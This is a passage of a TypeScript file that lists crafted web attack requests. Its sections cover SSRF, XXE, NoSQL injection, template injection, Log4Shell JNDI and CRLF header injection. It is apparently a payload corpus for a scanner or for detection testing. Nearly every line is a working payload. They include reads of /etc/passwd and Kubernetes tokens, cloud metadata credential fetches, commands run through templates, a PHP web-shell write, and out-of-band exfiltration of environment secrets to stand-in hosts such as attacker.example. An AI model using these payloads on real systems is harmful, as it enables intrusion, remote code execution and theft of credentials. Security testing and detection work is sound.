  q("/api/v1/fetch", "url", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*/1%20*%20*%20*%20*%20bash%20-c%20id%5Cn%22%0D%0ACONFIG%20SET%20dir%20/var/spool/cron/%0D%0ASAVE"),
  q("/api/v1/fetch", "url", "gopher://127.0.0.1:25/_HELO%20localhost%0D%0AMAIL%20FROM:%3Ca@example.test%3E"),
  q("/api/v1/fetch", "url", "dict://127.0.0.1:11211/stats"),
  q("/api/v1/fetch", "url", "ldap://127.0.0.1:389/%0astats%0aquit"),
  q("/api/v1/fetch", "url", "tftp://203.0.113.50:69/x"),
  q("/api/v1/preview", "link", "http://trusted.example.test@169.254.169.254/latest/meta-data/"),
  q("/api/v1/preview", "link", "http://169.254.169.254#@trusted.example.test/"),
  q("/api/v1/preview", "link", "http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/latest/meta-data/"),
  q("/api/v1/fetch", "url", "netdoc:///etc/passwd"),
  q("/api/v1/fetch", "url", "jar:http://127.0.0.1:8080/x.jar!/"),
  f("/feeds/add", "feed", "http://169.254.169.254/latest/meta-data/hostname"),
  raw((r) => ({ method: "GET", uri: "http://169.254.169.254/latest/meta-data/", headers: [["Host", "169.254.169.254"], ["User-Agent", pick(r, ["curl/8.5.0", "python-requests/2.31.0"])], ["Accept", "*/*"]] })),
  h("/api/v1/render", "X-Forwarded-Host", "169.254.169.254"),
  q("/api/v1/fetch", "url", "http://0/"),
  m("/api/v1/import/url", [{ name: "url", value: "http://0x7f.0x0.0x0.0x1:9000/minio/admin/v3/info" }]),
  j("/api/v1/pdf", { html: "<iframe src=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\" width=800></iframe>" }),
  j("/api/v1/oembed", { url: "http://0177.0.0.1:8080/admin" }),
  f("/webhooks/test", "endpoint", "http://[::]:22/"),
  m("/api/v1/import/url", [{ name: "source", value: "gopher://10.0.0.8:11211/_stats" }]),
  j("/api/v1/webhooks", { url: "http://metadata.google.internal./computeMetadata/v1/?recursive=true" }),
  j("/api/v1/fetch", { url: "http://instance-data/latest/meta-data/" }),
];

// ---- XXE -------------------------------------------------------------------------------------------------
const dt = (name: string, decl: string) => `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE ${name} [\n  ${decl}\n]>\n`;
const lols = (() => {
  let s = `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n  <!ENTITY lol "lol">\n`;
  let prev = "lol";
  for (let i = 1; i <= 9; i++) { s += `  <!ENTITY lol${i} "${`&${prev};`.repeat(10)}">\n`; prev = `lol${i}`; }
  return s + `]>\n<lolz>&lol9;</lolz>`;
})();
const xxe: B[] = [
  x("/api/v1/orders/import", dt("order", `<!ENTITY xxe SYSTEM "file:///etc/passwd">`) + `<order><id>&xxe;</id><qty>1</qty></order>`),
  x("/api/v1/orders/import", dt("order", `<!ENTITY xxe SYSTEM "http://203.0.113.50/probe">`) + `<order><id>&xxe;</id></order>`),
  x("/xmlrpc", dt("r", `<!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd"> %dtd;`) + `<r>x</r>`, "text/xml"),
  x("/api/v1/invoices", dt("r", `<!ENTITY % file SYSTEM "file:///etc/hostname">\n  <!ENTITY % dtd SYSTEM "http://attacker.example/exfil.dtd">\n  %dtd;\n  %send;`) + `<r/>`),
  x("/api/v1/documents", `<?xml version="1.0"?>\n<doc xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></doc>`),
  x("/api/v1/documents", lols),
  x("/api/v1/documents", `<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY a "${"A".repeat(2000)}">]>\n<d>${"&a;".repeat(200)}</d>`),
  x("/api/v1/feeds", `<?xml version="1.0"?>\n<!DOCTYPE feed PUBLIC "-//A//DTD X//EN" "http://attacker.example/x.dtd">\n<feed><title>t</title></feed>`),
  x("/services/OrderService", `<?xml version="1.0"?>\n<!DOCTYPE soap:Envelope [<!ENTITY x SYSTEM "file:///c:/windows/win.ini">]>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><getOrder><id>&x;</id></getOrder></soap:Body></soap:Envelope>`, "text/xml", [["SOAPAction", "\"getOrder\""]]),
  m("/api/v1/images", [{ name: "image", filename: "logo.svg", type: "image/svg+xml", value: `<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg" width="200" height="50"><text x="0" y="20">&xxe;</text></svg>` }]),
  x("/api/v1/import", dt("x", `<!ENTITY src SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/config.php">`) + `<x>&src;</x>`),
  x("/api/v1/import", dt("x", `<!ENTITY cmd SYSTEM "expect://id">`) + `<x>&cmd;</x>`),
  x("/api/v1/import", dt("x", `<!ENTITY j SYSTEM "jar:http://attacker.example/x.zip!/a.txt">`) + `<x>&j;</x>`),
  x("/api/v1/import", dt("x", `<!ENTITY n SYSTEM "netdoc:/etc/passwd">`) + `<x>&n;</x>`),
  x("/api/v1/import", `<?xml version="1.0" encoding="UTF-7"?>\n+ADwAIQ-DOCTYPE x +AFs-+ADwAIQ-ENTITY xxe SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-\n+ADw-x+AD4AJg-xxe+ADsAPA-/x+AD4-`),
  x("/api/v1/import", dt("x", `<!ENTITY % local SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">\n  <!ENTITY % ISOamso '<!ENTITY &#x25; f SYSTEM "file:///etc/passwd"><!ENTITY &#x25; e "<!ENTITY &#x26;#x25; err SYSTEM &#x27;file:///nope/&#x25;f;&#x27;>">&#x25;e;&#x25;err;'>\n  %local;`) + `<x/>`),
  f("/api/legacy/submit", "xml", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>`),
  j("/api/v1/convert", { format: "xml", data: `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/shadow">]><a>&e;</a>` }),
  x("/rss/import", `<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY e SYSTEM "http://169.254.169.254/latest/meta-data/">]>\n<rss version="2.0"><channel><title>&e;</title></channel></rss>`, "application/rss+xml"),
  x("/api/v1/transform", `<?xml version="1.0"?>\n<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document('file:///etc/passwd')"/></xsl:template></xsl:stylesheet>`),
  x("/api/v1/transform", `<?xml version="1.0"?>\n<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"><xsl:template match="/"><xsl:variable name="r" select="rt:getRuntime()"/><xsl:value-of select="rt:exec($r,'id')"/></xsl:template></xsl:stylesheet>`),
  x("/api/v1/import", dt("x", `<!ENTITY g SYSTEM "gopher://127.0.0.1:6379/_INFO">`) + `<x>&g;</x>`),
  x("/api/v1/import", `<?xml version="1.0"?>\n<!DOCTYPE x SYSTEM "http://203.0.113.50:8000/ext.dtd">\n<x>&send;</x>`),
  x("/api/v1/import", dt("x", `<!ENTITY % local_dtd SYSTEM "file:///usr/share/xml/fontconfig/fonts.dtd">\n  <!ENTITY % expr 'aaa)>\n    <!ENTITY &#x25; file SYSTEM "file:///etc/passwd">\n    <!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">\n    &#x25;eval;\n    &#x25;error;\n    <!ELEMENT aa (bb'>\n  %local_dtd;`) + `<x/>`),
  x("/saml/acs", dt("samlp:Response", `<!ENTITY s SYSTEM "file:///etc/passwd">`) + `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">&s;</saml:Issuer></samlp:Response>`, "application/samlassertion+xml"),
  x("/api/v1/sitemap", dt("urlset", `<!ENTITY e SYSTEM "file:///proc/self/environ">`) + `<urlset><url><loc>&e;</loc></url></urlset>`),
  x("/api/v1/orders/import", dt("order", `<!ENTITY xxe SYSTEM "file:///var/run/secrets/kubernetes.io/serviceaccount/token">`) + `<order><note>&xxe;</note></order>`),
  x("/webdav/", `<?xml version="1.0"?>\n<!DOCTYPE propfind [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n<D:propfind xmlns:D="DAV:"><D:prop><D:displayname>&e;</D:displayname></D:prop></D:propfind>`),
  x("/api/v1/documents", `<?xml version="1.0"?>\n<!DOCTYPE q [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">]>\n<q>&f;&f;&f;&f;</q>`),
  x("/api/v1/invoices", `<?xml version="1.0"?>\n<!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY bar SYSTEM "https://attacker.example/oob?d=1">]>\n<foo>&bar;</foo>`),
  m("/api/v1/import", [{ name: "file", filename: "products.xml", type: "text/xml", value: dt("p", `<!ENTITY x SYSTEM "file:///etc/passwd">`) + `<p><name>&x;</name></p>` }]),
  x("/services/Auth", `<?xml version="1.0"?>\n<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><login xmlns:xi="http://www.w3.org/2001/XInclude"><user><xi:include href="file:///etc/passwd" parse="text"/></user></login></soapenv:Body></soapenv:Envelope>`, "application/soap+xml"),
  q("/api/v1/parse", "xml", `<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>`),
  x("/api/v1/import", dt("x", `<!ENTITY % p1 SYSTEM "http://203.0.113.50/a.dtd">\n  <!ENTITY % p2 SYSTEM "http://203.0.113.50/b.dtd">\n  %p1;%p2;`) + `<x/>`),
  x("/api/v1/import", `<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY win SYSTEM "file:///C:/Windows/System32/drivers/etc/hosts">]>\n<x>&win;</x>`, "text/xml"),
  x("/api/v1/import", `<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY unc SYSTEM "\\\\203.0.113.50\\share\\x">]>\n<x>&unc;</x>`),
  x("/api/v1/docs", `<?xml version="1.0"?>\n<!DOCTYPE x [\n<!ENTITY % a "<!ENTITY b SYSTEM 'file:///etc/passwd'>">\n%a;\n]>\n<x>&b;</x>`),
  x("/api/v1/import", dt("x", `<!ENTITY e SYSTEM "ftp://203.0.113.50:2121/leak">`) + `<x>&e;</x>`),
  x("/api/v1/import", `<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x><![CDATA[prefix]]>&e;</x>`, "application/xml; charset=utf-8"),
  x("/services/Billing", `<?xml version="1.0"?>\n<!DOCTYPE env [<!ENTITY % oob SYSTEM "http://203.0.113.50/soap.dtd"> %oob;]>\n<env:Envelope xmlns:env="http://www.w3.org/2003/05/soap-envelope"><env:Body><getInvoice><id>7</id></getInvoice></env:Body></env:Envelope>`, "application/soap+xml; charset=utf-8"),
  m("/api/v1/translations/import", [{ name: "locale", value: "de" }, { name: "file", filename: "messages.xlf", type: "application/xliff+xml", value: `<?xml version="1.0"?><!DOCTYPE xliff [<!ENTITY x SYSTEM "file:///etc/passwd">]><xliff version="1.2"><file source-language="en" target-language="de"><body><trans-unit id="1"><source>&x;</source></trans-unit></body></file></xliff>` }]),
  fr("/saml/acs", "SAMLResponse=" + encodeURIComponent(b64(`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://203.0.113.50/saml.dtd"> %x;]><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">idp</saml:Issuer></samlp:Response>`)) + "&RelayState=%2Fdashboard"),
  m("/api/v1/maps/import", [{ name: "file", filename: "route.kml", type: "application/vnd.google-earth.kml+xml", value: `<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY e SYSTEM "file:///etc/hosts">]><kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&e;</name></Placemark></kml>` }]),
  x("/api/v1/import", `<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY % a SYSTEM "file:///etc/passwd"><!ENTITY % b SYSTEM "http://attacker.example/b.dtd">%b;]>\n<x>&c;</x>`, "text/xml; charset=utf-8"),
  j("/api/v1/import", `{"format":"xlsx-xml","payload":"<?xml version=\\"1.0\\"?><!DOCTYPE x [<!ENTITY e SYSTEM \\"http://203.0.113.50/x\\">]><x>&e;</x>"}`),
];

// ---- NoSQL injection ------------------------------------------------------------------------------------
const nosqli: B[] = [
  fr("/login", "username[$ne]=x&password[$ne]=x"),
  u("/login?username[$gt]=&password[$gt]="),
  fr("/login", "username[$regex]=^adm&password[$ne]=1"),
  u("/api/v1/users?id[$where]=sleep(5000)"),
  u("/products?price[$lt]=0"),
  u("/api/v1/users?role[$in][]=admin&role[$in][]=root"),
  u("/api/v1/users?email[$exists]=true"),
  fr("/login", "username[$nin][]=&password[$ne]=null"),
  j("/api/v1/login", { username: { $ne: null }, password: { $ne: null } }),
  j("/api/v1/login", { username: "admin", password: { $gt: "" } }),
  j("/api/v1/users/search", { $where: "this.password.length > 0" }),
  j("/api/v1/users/search", { $where: "sleep(5000) || true" }),
  j("/api/v1/users/search", { username: { $regex: "^a", $options: "i" } }),
  j("/api/v1/orders/query", { filter: { $or: [{ owner: "me" }, { owner: { $ne: "me" } }] } }),
  j("/api/v1/orders/query", { filter: { $expr: { $gt: [{ $strLenCP: "$password" }, 0] } } }),
  j("/api/v1/items", { q: { $function: { body: "function(){return true}", args: [], lang: "js" } } }),
  j("/api/v1/reports", { pipeline: [{ $lookup: { from: "users", localField: "owner", foreignField: "_id", as: "u" } }] }),
  q("/login", "username", "admin' || '1'=='1"),
  q("/api/v1/users", "name", "'; return true; var x='"),
  q("/api/v1/users", "name", "1; while(true){}"),
  j("/api/v1/users/search", { name: "a'; return this.password.match(/.*/)//" }),
  u("/api/v1/products?name[$regex]=.*"),
  fr("/account/reset", "email[$ne]=a@a.a"),
  j("/api/v1/users/search", { $where: "function(){return this.isAdmin==true}" }),
  u("/api/v1/search?filter=%7B%22%24ne%22%3Anull%7D"),
  fr("/login", "login[username][$ne]=a&login[password][$ne]=a"),
  j("/api/v1/login", { username: { $in: ["admin", "root", "administrator"] }, password: { $nin: [""] } }),
  j("/api/v1/reset-password", { email: { $exists: true }, token: { $ne: "" } }),
  j("/api/v1/stats", { agg: [{ $group: { _id: null, total: { $accumulator: { init: "function(){return 0}", accumulate: "function(s){return s}", accumulateArgs: [], merge: "function(a,b){return a}", lang: "js" } } } }] }),
  j("/db/_find", { selector: { _id: { $gt: null } }, fields: ["_id", "password"] }),
  u("/api/v1/users?password[$regex]=^a.*&username=admin"),
  c("/dashboard", "filter", "{\"owner\":{\"$ne\":null}}"),
  j("/api/v1/orders/query", `{"status":"paid","amount":{"$gte":0},"owner":{"$ne":"x"}}`),
  u("/api/v1/session?token[$ne]=1"),
  j("/graphql", { query: "query($f: JSON){ users(filter: $f){ id email } }", variables: { f: { password: { $regex: "^" } } } }),
  fr("/api/v1/login", "user=admin&pass[$regex]=^.{8}$"),
  j("/api/v1/users/search", { username: { $where: "this.username == 'admin' && this.password[0] == 'a'" } }),
  u("/api/v1/items?_id[$gt]=000000000000000000000000"),
  j("/api/v1/items/update", { filter: { _id: { $ne: 0 } }, update: { $set: { role: "admin" } } }, "PATCH"),
  j("/api/v1/login", { username: "admin", password: { $regex: ".*" } }),
  u("/api/v1/users?where=this.password.length%3E0%20%7C%7C%20sleep(3000)"),
  m("/api/v1/login", [{ name: "username[$ne]", value: "x" }, { name: "password[$ne]", value: "x" }]),
  j("/api/v1/orders/query", { owner: { $not: { $eq: "me" } } }),
  u("/api/v1/users?filter[email][$regex]=^adm"),
  j("/api/v1/login", { username: { $eq: "admin" }, password: { $ne: "1" } }),
  j("/api/v1/search", { q: "x", sort: { $natural: -1 }, $where: "this.role == 'admin'" }),
];

// ---- SSTI -------------------------------------------------------------------------------------------------
const ssti: B[] = [
  q("/greet", "name", "{{7*7}}"),
  q("/greet", "name", "{{config.items()}}"),
  q("/preview", "tpl", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
  q("/greet", "name", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
  f("/profile", "display_name", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
  q("/greet", "name", "{{ request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}"),
  q("/email/preview", "body", "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c('id',shell=True,stdout=-1).communicate() }}{% endif %}{% endfor %}"),
  q("/greet", "name", "{{ lipsum.__globals__['os'].popen('whoami').read() }}"),
  q("/greet", "name", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')}}"),
  q("/greet", "name", "{{ url_for.__globals__['current_app'].config['SECRET_KEY'] }}"),
  q("/greet", "name", "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}"),
  q("/page", "title", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
  q("/page", "title", "{{['id']|filter('system')}}"),
  f("/newsletter/preview", "content", "{{['cat /etc/passwd']|map('passthru')|join}}"),
  q("/page", "title", "{{app.request.server.all|join(',')}}"),
  j("/api/v1/templates/preview", { template: "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}" }),
  q("/report", "header", "${\"freemarker.template.utility.Execute\"?new()(\"whoami\")}"),
  q("/product", "desc", "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd').toURL().openStream().readAllBytes()?join(\" \")}"),
  j("/api/v1/templates/preview", { template: "<#assign cl=article.class.protectionDomain.classLoader><#assign owc=cl.loadClass(\"freemarker.template.ObjectWrapper\")>${owc}" }),
  j("/api/v1/mail/templates", { name: "welcome", body: "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()" }, "PUT"),
  q("/preview", "tpl", "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")"),
  q("/greet", "name", "<%= 7*7 %>"),
  q("/greet", "name", "<%= system('id') %>"),
  f("/comments/preview", "text", "<%= `ls -la /` %>"),
  q("/greet", "name", "<%= File.open('/etc/passwd').read %>"),
  q("/greet", "name", "<%= IO.popen('id').readlines() %>"),
  q("/doc", "lang", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
  q("/view", "section", "[[${T(java.lang.System).getenv()}]]"),
  j("/api/v1/labels", { text: "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}" }),
  u("/doc/__$%7Bnew%20java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(%22id%22).getInputStream()).next()%7D__::.x"),
  q("/page", "title", "{php}echo `id`;{/php}"),
  q("/page", "title", "{system('id')}"),
  q("/page", "title", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}"),
  j("/api/v1/cards/render", { message: "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}" }),
  q("/greet", "name", "${self.module.cache.util.os.system(\"id\")}"),
  f("/render", "tpl", "<% import os; x=os.popen('id').read() %>${x}"),
  q("/greet", "name", "{% import os %}{{ os.popen('id').read() }}"),
  q("/greet", "name", "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('id')}()}"),
  j("/api/v1/invoices/preview", { footer: "<%= global.process.mainModule.require('child_process').execSync('id') %>" }),
  q("/greet", "name", "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))"),
  q("/greet", "name", "{% debug %}"),
  q("/greet", "name", "{{ settings.SECRET_KEY }}"),
  c("/", "greeting", "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}"),
  h("/api/v1/status", "User-Agent", "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}"),
  m("/api/v1/themes", [{ name: "name", value: "dark" }, { name: "footer", value: "${T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwn\")}" }]),
  q("/greet", "name", "${{7*7}}"),
  j("/api/v1/notifications/templates", { subject: "Hi {{user.name}}", body: "{{ ''.__class__.__base__.__subclasses__()[59].__init__.__globals__['sys'].modules['os'].popen('id').read() }}" }),
  j("/api/v1/mail/preview", { subject: "{{ joiner.__init__.__globals__.os.popen('id').read() }}" }),
  c("/", "name", "{{namespace.__init__.__globals__.os.popen('id').read()}}"),
  q("/greet", "name", "{{''.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}"),
];

// ---- JNDI / Log4Shell --------------------------------------------------------------------------------------
const jndi: B[] = [
  h("/", "User-Agent", "${jndi:ldap://203.0.113.50:1389/a}"),
  h("/api/v1/status", "X-Api-Version", "${jndi:ldap://attacker.example/x}"),
  h("/", "X-Forwarded-For", "${jndi:rmi://203.0.113.50:1099/Exploit}"),
  h("/", "Referer", "${jndi:dns://attacker.example/probe}"),
  h("/login", "User-Agent", "${jndi:ldaps://attacker.example:636/o}"),
  h("/", "X-Request-Id", "${jndi:iiop://203.0.113.50:1050/x}"),
  q("/search", "q", "${jndi:corba://203.0.113.50/x}"),
  q("/search", "q", "${jndi:nis://203.0.113.50/x}"),
  q("/search", "q", "${jndi:nds://203.0.113.50/x}"),
  q("/search", "q", "${jndi:http://attacker.example/x}"),
  h("/", "User-Agent", "${${lower:j}ndi:ldap://203.0.113.50:1389/b}"),
  h("/", "X-Forwarded-For", "${${lower:j}${lower:n}${lower:d}i:${lower:l}dap://203.0.113.50/c}"),
  h("/", "User-Agent", "${${upper:j}ndi:ldap://attacker.example/d}"),
  h("/", "User-Agent", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://203.0.113.50/e}"),
  h("/", "Referer", "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example/f}"),
  h("/", "X-Api-Version", "${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/g}"),
  h("/", "User-Agent", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/h}"),
  h("/", "User-Agent", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/i}"),
  h("/", "X-Forwarded-For", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/a}"),
  h("/", "User-Agent", "${jndi:dns://${hostName}.attacker.example}"),
  q("/search", "q", "${jndi:ldap://${sys:java.version}.attacker.example/}"),
  h("/", "User-Agent", "${${base64:JHtqbmRpOmxkYXA6Ly9hdHRhY2tlci5leGFtcGxlL2F9}}"),
  h("/", "User-Agent", "${jn${lower:d}i:l${lower:d}ap://attacker.example/j}"),
  u("/search?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.50%3A1389%2Fk%7D"),
  h("/", "X-Forwarded-For", "${jndi:ldap://127.0.0.1#attacker.example:1389/a}"),
  h("/", "User-Agent", "${${::-${::-$${::-j}}}}"),
  j("/api/v1/login", `{"username":"\\u0024{jndi:ldap://203.0.113.50/l}","password":"x"}`),
  u("/search?q=%2524%257Bjndi%253Aldap%253A%252F%252F203.0.113.50%252Fm%257D"),
  u("/search?q=$%7Bjndi:ldap://203.0.113.50/n%7D"),
  j("/api/v1/feedback", { email: "a@b.test", message: "${jndi:ldap://attacker.example/o}" }),
  f("/login", "username", "${jndi:ldap://203.0.113.50:1389/p}", "password=x"),
  c("/", "JSESSIONID", "${jndi:ldap://203.0.113.50/q}"),
  h("/api/v1/orders", "Authorization", "Bearer ${jndi:ldap://203.0.113.50/r}"),
  h("/", "Accept-Language", "${jndi:ldap://attacker.example/s}"),
  h("/", "X-Forwarded-Host", "${jndi:ldap://attacker.example/t}"),
  m("/upload", [{ name: "description", value: "${${lower:jndi}:${lower:rmi}://203.0.113.50/u}" }]),
  x("/api/soap/ping", `<?xml version="1.0"?><ping><host>\${jndi:ldap://203.0.113.50/v}</host></ping>`),
  h("/", "User-Agent", "${${lower:${lower:jndi}}:${lower:ldap}://attacker.example/w}"),
  h("/", "Contact", "${jndi:ldap://203.0.113.50/x}"),
  q("/api/v1/search", "sort", "${jndi:ldap://attacker.example/${main:0}}"),
  h("/", "User-Agent", "${jndi:${lower:r}mi://203.0.113.50/y}"),
  h("/", "X-Client-IP", "${${upper:${lower:J}}ndi:ldap://attacker.example/z}"),
  h("/", "X-Api-Version", "${jndi:ldap://${env:USER}.${env:HOSTNAME}.attacker.example/x}"),
  u("/$%7Bjndi:ldap://203.0.113.50/path%7D"),
  j("/api/v1/events", { user: { agent: "${${::-j}ndi:rmi://203.0.113.50/ev}" }, type: "login" }),
  h("/", "True-Client-IP", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.50/aa}"),
];

// ---- CRLF / header injection --------------------------------------------------------------------------------
const crlf: B[] = [
  u("/set-lang?lang=en%0d%0aSet-Cookie:%20session=attacker"),
  u("/login?redirect=/home%0d%0aLocation:%20https://attacker.example"),
  u("/page?ref=x%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"),
  u("/set-lang?lang=en%0aSet-Cookie:admin=true"),
  u("/redirect?to=/%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0aContent-Length:%2019%0d%0a%0d%0a%3Chtml%3Edefaced%3C/html%3E"),
  u("/set-lang?lang=en%E5%98%8A%E5%98%8DSet-Cookie:%20x=1"),
  u("/set-lang?lang=en%250d%250aSet-Cookie:%20a=b"),
  u("/set-lang?lang=en%u000d%u000aSet-Cookie:%20a=b"),
  j("/api/v1/exports", { filename: "report.pdf\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>" }),
  u("/%0d%0aSet-Cookie:%20sessionid=fixated"),
  u("/search?q=x%0d%0aX-XSS-Protection:0"),
  u("/api/v1/cors?origin=x%0d%0aAccess-Control-Allow-Origin:%20*"),
  fr("/contact", "name=Bob&email=victim%40example.com%0ABcc%3A+all-customers%40example.com&msg=hi"),
  fr("/contact", "name=Bob&email=bob%40example.test&subject=Hello%0d%0aBcc%3A%20list%40example.com%0d%0aContent-Type%3A%20text%2Fhtml"),
  u("/login?user=admin%0d%0a[INFO]%20user%20admin%20logged%20in%20successfully"),
  h("/", "X-Forwarded-Host", "www.example.test%0d%0aSet-Cookie: a=b"),
  u("/redirect?url=/%23%0d%0aSet-Cookie:%20x=y"),
  u("/redirect?url=%3f%0d%0aLocation:%0d%0aContent-Type:text/html%0d%0aX-XSS-Protection%3a0%0d%0a%0d%0a%3Cscript%3Ealert%28document.domain%29%3C/script%3E"),
  u("/redirect?url=/%%0a0aSet-Cookie:crlf=injection"),
  u("/download?name=x%0d%0aContent-Disposition:%20attachment;%20filename=evil.exe"),
  u("/track?utm_source=google%0d%0aSet-Cookie:%20tracking=evil;%20Domain=.example.test"),
  u("/api/v1/redirect?next=https://www.example.test%0d%0aRefresh:%200;url=https://attacker.example"),
  u("/lang/fr%0D%0ASet-Cookie:%20lang=evil"),
  u("/callback?state=abc%0D%0ALocation:%20javascript:alert(1)"),
  fr("/newsletter", "email=a%40b.test%0d%0aCc%3A+spam%40example.com"),
  j("/api/v1/mail/send", { to: "user@example.test", subject: "Hi\r\nBcc: everyone@example.test", body: "x" }),
  u("/go?url=%0d%0aLocation:%20http://attacker.example/"),
  u("/set?locale=de%0D%0AX-Forwarded-For:%20127.0.0.1"),
  u("/page?x=%c4%8d%c4%8aSet-Cookie:%20a=b"),
  u("/redirect?to=%E5%98%8D%E5%98%8ALocation:%20//attacker.example"),
  u("/set-lang?lang=%0d%0a%09Set-Cookie:%20a=b"),
  u("/api/v1/log?msg=ok%0d%0a127.0.0.1%20-%20admin%20%22GET%20/admin%20HTTP/1.1%22%20200"),
  f("/profile/update", "nickname", "bob\r\nX-Injected: 1"),
  u("/set-lang?lang=%0aHost:attacker.example"),
  u("/redirect?to=%2F%2Fwww.example.test%2F%0D%0AContent-Security-Policy%3A%20default-src%20*"),
  u("/set-lang?lang=en%0D%0ASet-Cookie:%20PHPSESSID=deadbeefdeadbeef;%20path=/"),
  c("/", "pref", "en%0d%0aSet-Cookie:%20x=1", true),
  u("/api/v1/headers?name=X-Test&value=ok%0d%0aSet-Cookie:%20admin=1"),
  m("/api/v1/attachments", [{ name: "file", filename: "a.txt\r\nContent-Type: text/html", type: "text/plain", value: "hello" }]),
  u("/files/report.pdf?dl=1%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Csvg%20onload=alert(1)%3E"),
